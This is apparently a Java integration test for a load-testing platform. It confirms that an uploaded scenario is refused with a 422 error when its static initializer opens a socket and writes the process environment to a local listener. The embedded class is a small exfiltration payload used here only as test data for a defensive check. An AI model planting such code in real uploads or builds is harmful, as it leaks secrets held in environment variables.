package dev.barrage.controlplane.scenarios;

import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasSize;

import dev.barrage.controlplane.Api;
import dev.barrage.controlplane.Keycloak;
import io.quarkus.test.junit.QuarkusTest;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * The upload seen in issue 19: a static initializer that opens a socket to a local listener and writes the
 * environment to it. The hosted rules read the class files before anything is loaded, so the upload answers 422 with
 * each refusal at its line and column, and the listener sees no connection at all. (What contains the check process
 * itself, for what the rules cannot see, is another matter: see HostileScenariosTest.)
 */
@QuarkusTest
class HostedRulesUploadTest {
    @Test
    void aStaticInitializerThatSendsTheEnvironmentIsRefusedAndReachesNothing() throws Exception {
        String project = Api.newProject(Keycloak.DEMO);
        try (ServerSocket listener = new ServerSocket(0, 50, java.net.InetAddress.getLoopbackAddress())) {
            String source = """
                    import dev.barrage.scenario.*;
                    public class Leak extends HttpUser {
                        static {
                            try (java.net.Socket s = new java.net.Socket("127.0.0.1", %d)) {
                                s.getOutputStream().write(System.getenv().toString().getBytes());
                            } catch (Exception e) { }
                        }
                        @Task void a() { client.get("/fast").send(); }
                    }
                    """.formatted(listener.getLocalPort());

            Api.as(Keycloak.DEMO).body(Map.of("fileName", "Leak.java", "source", source))
                    .post("/api/projects/" + project + "/scenarios").then().statusCode(422)
                    .contentType("application/problem+json")
                    .body("title", equalTo("Scenario Not Allowed"))
                    .body("errors", hasSize(2))
                    .body("errors[0].line", equalTo(4)).body("errors[0].column", equalTo(34))
                    .body("errors[0].message", containsString("new Socket is not allowed in a hosted scenario: "
                            + "a hosted scenario reaches its targets with client (HTTP)"))
                    .body("errors[1].line", equalTo(5)).body("errors[1].column", equalTo(46))
                    .body("errors[1].message", containsString("System.getenv is not allowed in a hosted scenario: "
                            + "the runner's environment and system properties are the platform's"))
                    .body("detail", containsString("Leak.java:4:34: new Socket is not allowed"));

            // the kernel queues a connection without accept(): one the check made would be waiting by now
            listener.setSoTimeout(100);
            assertThatThrownBy(listener::accept).as("a connection from the upload's check")
                    .isInstanceOf(SocketTimeoutException.class);
        }
        Api.as(Keycloak.DEMO).get("/api/projects/" + project + "/scenarios").then().statusCode(200)
                .body("size()", equalTo(0));
    }
}
